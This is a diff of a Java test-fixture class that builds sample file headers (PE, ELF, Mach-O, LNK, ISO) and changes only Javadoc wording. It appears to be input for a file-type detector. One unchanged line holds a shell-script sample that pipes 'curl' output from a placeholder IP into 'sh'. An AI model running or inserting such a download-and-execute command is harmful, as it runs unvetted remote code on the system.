@@ -13,7 +13,7 @@ final class SampleFiles {
 
   private SampleFiles() {}
 
-  /** A DOS header whose e_lfanew points at a PE signature for i386 (PE/COFF specification §2). */
+  /** Returns a DOS header whose e_lfanew points at an i386 PE signature (PE/COFF spec §2). */
   static byte[] windowsExecutable() {
     byte[] pe = new byte[512];
     pe[0] = 'M';
@@ -26,7 +26,7 @@ final class SampleFiles {
     return pe;
   }
 
-  /** An ELF header of a 64-bit x86-64 executable. */
+  /** Returns the ELF header of a 64-bit x86-64 executable. */
   static byte[] elfExecutable() {
     byte[] elf = new byte[64];
     byte[] header = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0};
@@ -36,7 +36,7 @@ final class SampleFiles {
     return elf;
   }
 
-  /** A 64-bit little-endian Mach-O header of an executable. */
+  /** Returns the 64-bit little-endian Mach-O header of an executable. */
   static byte[] machOExecutable() {
     return new byte[] {
       (byte) 0xcf, (byte) 0xfa, (byte) 0xed, (byte) 0xfe, 7, 0, 0, 1, 3, 0, 0, 0, 2, 0, 0, 0
@@ -47,7 +47,7 @@ final class SampleFiles {
     return "#!/bin/sh\ncurl -s http://192.0.2.1/x | sh\n".getBytes(StandardCharsets.US_ASCII);
   }
 
-  /** A Windows shortcut header: size 0x4C and the shell link CLSID. */
+  /** Returns a Windows shortcut header: size 0x4C and the shell link CLSID. */
   static byte[] windowsShortcut() {
     byte[] lnk = new byte[76];
     byte[] header = {
@@ -57,7 +57,7 @@ final class SampleFiles {
     return lnk;
   }
 
-  /** An ISO 9660 image: the primary volume descriptor's CD001 at offset 32769. */
+  /** Returns an ISO 9660 image: the primary volume descriptor's CD001 at offset 32769. */
   static byte[] isoImage() {
     byte[] iso = new byte[0x8800];
     iso[0x8000] = 1;
